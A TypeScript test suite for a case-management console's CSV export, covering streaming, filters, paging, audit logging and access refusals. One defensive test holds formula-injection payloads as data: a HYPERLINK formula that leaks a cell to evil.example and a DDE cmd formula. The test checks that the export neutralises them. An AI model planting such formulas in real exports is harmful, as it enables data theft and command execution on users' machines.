import { randomUUID } from 'node:crypto';
import { expect } from 'chai';
import { operatorActor } from '../../src/access/index';
import { listAuditLog } from '../../src/audit/index';
import { assignCaseOwner, CASE_EXPORT_COLUMNS, EXPORT_PAGE_SIZE, exportCases, findConsoleCase, setCaseTags } from '../../src/cases/index';
import { openCase } from '../../src/onboarding/index';
import type { Tenant } from '../../src/tenants/index';
import { bulkCases } from '../support/bulk-cases';
import { parseCsv } from '../support/csv';
import { analystOf, setStatus } from '../graphql/case-support';
import { ConsoleHarness, type ConsoleClient } from '../graphql/harness';

/** GET /console/export/cases.csv (issue 26, "Dashboard and export"): the case list as CSV, streamed, filtered, audited. */
describe('console: CSV export of the case list', function () {
  this.timeout(60_000);
  let h: ConsoleHarness;
  before(async () => {
    h = await ConsoleHarness.start();
  });
  after(() => h.close());

  const download = (client: ConsoleClient | null, query = '', headers: Record<string, string> = {}) =>
    fetch(`${h.url}/console/export/cases.csv${query}`, { headers: { ...(client?.cookieHeader() ?? {}), ...headers } });

  /** The export's records (header first), after checking its BOM. */
  async function records(res: Response): Promise<string[][]> {
    expect(res.status, await res.clone().text()).to.equal(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)], 'a UTF-8 BOM').to.deep.equal([0xef, 0xbb, 0xbf]);
    return parseCsv(new TextDecoder('utf-8').decode(bytes));
  }
  const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[CASE_EXPORT_COLUMNS.indexOf(name)]);
  const exportsOf = async (tenant: Tenant) => (await listAuditLog(h.svc, operatorActor(tenant.id), { limit: 100 })).data.filter((e) => e.action === 'cases.exported');

  it('streams 10,000 cases as RFC 4180 CSV with the documented header, one audit line with the row count', async () => {
    const analyst = await h.signedIn('analyst');
    const tenant = analyst.member.tenant;
    const tag = randomUUID().slice(0, 6);
    const bulk = await bulkCases(h.svc, tenant.id, 10_000, tag);
    const spot = await openCase(h.svc, operatorActor(tenant.id), {
      source: 'manual', companyName: 'Spot, "Quoted"\nLtd', customerName: 'Zoë Ünal', customerEmail: 'zoe@spot.example', country: 'GB', companyNumber: '01234567',
    });
    await setCaseTags(h.svc, analystOf(tenant), { caseId: spot.caseId, tags: ['vip', 'kyc'] });
    await assignCaseOwner(h.svc, analystOf(tenant), { caseId: spot.caseId, memberId: analyst.member.id });
    await h.svc.db.query("UPDATE cases SET risk_score = 72, risk_band = 'high' WHERE pk = ?", [spot.pk]);

    const started = Date.now();
    const res = await download(analyst, '', { 'Sec-Fetch-Site': 'same-origin' });
    expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).to.match(/^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).to.equal('no-store');
    const rows = await records(res);
    expect(Date.now() - started, 'export time (ms)').to.be.below(15_000);
    expect(rows[0]).to.deep.equal([...CASE_EXPORT_COLUMNS]);
    expect(rows).to.have.lengthOf(10_002);
    expect(rows.every((r) => r.length === CASE_EXPORT_COLUMNS.length), 'every record has every column').to.equal(true);
    const ids = column(rows, 'caseId');
    expect(new Set(ids).size, 'no case twice').to.equal(10_001);
    expect(ids[0], 'newest first, as the list').to.equal(spot.caseId);
    expect(new Set(ids)).to.deep.equal(new Set([spot.caseId, ...bulk]));

    const view = (await findConsoleCase(h.svc, analystOf(tenant), spot.caseId))!;
    const row = Object.fromEntries(CASE_EXPORT_COLUMNS.map((name, i) => [name, rows[1]![i]]));
    expect(row).to.deep.equal({
      reference: view.reference, caseId: spot.caseId, companyName: 'Spot, "Quoted"\nLtd', companyNumber: '01234567', country: 'GB',
      customerName: 'Zoë Ünal', customerEmail: 'zoe@spot.example', status: 'in_progress', onboardingStage: view.onboardingStage,
      riskBand: 'high', riskScore: '72', ownerName: analyst.member.role + ' ' + analyst.member.email.split('.')[1], ownerEmail: analyst.member.email,
      source: 'manual', crmSource: '', crmRecordId: '', tags: 'kyc; vip', createdAt: view.createdAt, updatedAt: view.updatedAt, analystUrl: view.analystUrl,
    });
    const bulkRow = rows.find((r) => r[1] === bulk[42])!;
    expect(bulkRow.slice(0, 3)).to.deep.equal([bulk[42], bulk[42], 'Bulk Ltd']);

    const audit = await exportsOf(tenant);
    expect(audit).to.have.lengthOf(1);
    expect(audit[0]!.actor).to.equal(analyst.member.email);
    expect(audit[0]!.details).to.deep.include({ rows: 10_001, complete: true });
    expect(audit[0]!.details.filter).to.deep.include({ statuses: null, search: null, riskBand: null });
  });

  it('applies the list filters and order of the console address (status, risk, tags, assignee, q, sort)', async () => {
    const analyst = await h.signedIn('analyst');
    const tenant = analyst.member.tenant;
    const open = (companyName: string) => openCase(h.svc, operatorActor(tenant.id), { source: 'manual', companyName });
    const a = await open('Alpha Trading Ltd');
    const b = await open('Beta Holdings');
    const c = await open('Gamma Logistics');
    await setStatus(h.svc, a.pk, 'approved');
    await h.svc.db.query("UPDATE cases SET risk_score = 90, risk_band = 'high' WHERE pk = ?", [a.pk]);
    await h.svc.db.query("UPDATE cases SET risk_score = 10, risk_band = 'low' WHERE pk = ?", [b.pk]);
    await setCaseTags(h.svc, analystOf(tenant), { caseId: a.caseId, tags: ['vip'] });
    await setCaseTags(h.svc, analystOf(tenant), { caseId: c.caseId, tags: ['vip', 'urgent'] });
    await assignCaseOwner(h.svc, analystOf(tenant), { caseId: b.caseId, memberId: analyst.member.id });

    const ids = async (query: string) => column(await records(await download(analyst, query)), 'caseId');
    expect(await ids('')).to.deep.equal([c.caseId, b.caseId, a.caseId]);
    expect(await ids('?status=approved')).to.deep.equal([a.caseId]);
    expect(await ids('?risk=high')).to.deep.equal([a.caseId]);
    expect(await ids('?tags=vip')).to.deep.equal([c.caseId, a.caseId]);
    expect(await ids('?tags=vip,urgent')).to.deep.equal([c.caseId]);
    expect(await ids('?tags=vip&sort=created:asc')).to.deep.equal([a.caseId, c.caseId]);
    expect(await ids('?sort=risk:desc')).to.deep.equal([a.caseId, b.caseId, c.caseId]);
    expect(await ids('?assignee=me')).to.deep.equal([b.caseId]);
    expect(await ids(`?owner=${analyst.member.id}`)).to.deep.equal([b.caseId]);
    expect(await ids('?assignee=nobody')).to.deep.equal([c.caseId, a.caseId]);
    expect(await ids('?q=alpha')).to.deep.equal([a.caseId]);
    expect(await ids('?status=approved,in_progress&risk=low')).to.deep.equal([b.caseId]);
    expect(await ids('?source=api')).to.deep.equal([]);

    const audit = await exportsOf(tenant);
    expect(audit).to.have.lengthOf(13);
    // Newest first: the last export's filters and count.
    expect(audit[0]!.details).to.deep.include({ rows: 0, complete: true });
    expect(audit[0]!.details.filter).to.deep.include({ source: 'api' });
    expect(audit[1]!.details).to.deep.include({ rows: 1 });
    expect(audit[1]!.details.filter).to.deep.include({ statuses: ['approved', 'in_progress'], riskBand: 'low' });
  });

  it('reads the list a page at a time and, stopped early (the client gone), audits the rows written as incomplete', async () => {
    const tenant = await h.tenant();
    await bulkCases(h.svc, tenant.id, EXPORT_PAGE_SIZE * 2 + 7, randomUUID().slice(0, 6));
    const exported = await exportCases(h.svc, analystOf(tenant), { sort: { by: 'updated', direction: 'asc' } });
    const chunks: string[] = [];
    for await (const chunk of exported.chunks) chunks.push(chunk);
    // The header, then one chunk per page: never more than a page of cases in hand.
    expect(chunks.map((c) => parseCsv(c.replace(/^\uFEFF/, '')).length)).to.deep.equal([1, EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, 7]);
    expect(new Set(chunks.slice(1).flatMap((c) => parseCsv(c).map((r) => r[1]))).size, 'keyset paging: no case twice').to.equal(EXPORT_PAGE_SIZE * 2 + 7);

    const stopped = await exportCases(h.svc, analystOf(tenant), {});
    let seen = 0;
    for await (const _chunk of stopped.chunks) if (++seen === 2) break;
    const audit = await exportsOf(tenant);
    expect(audit.map((e) => [e.details.rows, e.details.complete])).to.deep.equal([[EXPORT_PAGE_SIZE, false], [EXPORT_PAGE_SIZE * 2 + 7, true]]);
    expect(audit[1]!.details.filter).to.deep.include({ sort: 'updated:asc' });
  });

  it('neutralises spreadsheet formulas: a cell starting with = + - @ tab or CR gets a leading apostrophe', async () => {
    const analyst = await h.signedIn('analyst');
    const tenant = analyst.member.tenant;
    const names = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTabbed Ltd', '\rReturn Ltd', 'Plain = Ltd'];
    for (const companyName of names) {
      const c = await openCase(h.svc, operatorActor(tenant.id), { source: 'manual', companyName });
      // openCase trims the name; a tab or CR in front comes from elsewhere (an import, an older row).
      await h.svc.db.query('UPDATE cases SET company_name = ? WHERE pk = ?', [companyName, c.pk]);
    }
    await h.svc.db.query("UPDATE cases SET customer_name = '=cmd|'' /C calc''!A0' WHERE org_id = ?", [tenant.id]);
    const rows = await records(await download(analyst, '?sort=created:asc'));
    expect(column(rows, 'companyName')).to.deep.equal([
      `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tTabbed Ltd", "'\rReturn Ltd", 'Plain = Ltd',
    ]);
    expect(new Set(column(rows, 'customerName'))).to.deep.equal(new Set(["'=cmd|' /C calc'!A0"]));
  });

  it('refuses without a session (401), from another site (403), for a token (403), and bad filters (400), in the error shape without stack traces', async () => {
    const analyst = await h.signedIn('analyst');
    const tenant = analyst.member.tenant;
    const refused = async (res: Response, status: number, error: string) => {
      expect(res.status).to.equal(status);
      expect(res.headers.get('content-type')).to.match(/^application\/json/);
      const body = (await res.json()) as Record<string, unknown>;
      expect(body.error).to.equal(error);
      expect(JSON.stringify(body)).not.to.match(/\bat .+\.(js|ts):\d+/);
      return body;
    };
    await refused(await download(null), 401, 'unauthenticated');
    await refused(await download(null, '', { cookie: 'svc_console=not-a-session' }), 401, 'unauthenticated');
    await refused(await download(analyst, '', { 'Sec-Fetch-Site': 'cross-site' }), 403, 'forbidden');
    await refused(await download(analyst, '', { 'Sec-Fetch-Site': 'same-site' }), 403, 'forbidden');
    const bad = await refused(await download(analyst, '?status=bogus&risk=extreme'), 400, 'validation_failed');
    expect((bad.details as { path: string }[]).map((d) => d.path)).to.deep.equal(['filter.status', 'filter.riskBand']);
    const sort = await refused(await download(analyst, '?sort=name:up'), 400, 'validation_failed');
    expect((sort.details as { path: string }[]).map((d) => d.path)).to.deep.equal(['sort.by', 'sort.direction']);
    const unknown = await refused(await download(analyst, '?colour=red&status=approved&status=declined'), 400, 'validation_failed');
    expect((unknown.details as { path: string }[]).map((d) => d.path)).to.deep.equal(['colour', 'status']);
    // Tokens never export (the permission has no scope): forbidden in the domain, whatever their scopes.
    const token = { kind: 'api_client' as const, orgId: tenant.id, clientId: 'cli_x', scopes: ['read:cases' as const], tokenId: randomUUID(), mode: 'live' as const };
    let code: string | undefined;
    await exportCases(h.svc, token, {}).catch((e: { code?: string }) => { code = e.code; });
    expect(code).to.equal('forbidden');
    const head = await fetch(`${h.url}/console/export/cases.csv`, { method: 'HEAD', headers: analyst.cookieHeader() });
    expect([head.status, head.headers.get('content-type')]).to.deep.equal([200, 'text/csv; charset=utf-8']);
    expect(await exportsOf(tenant), 'neither a refusal nor a HEAD is an export').to.deep.equal([]);
  });
});
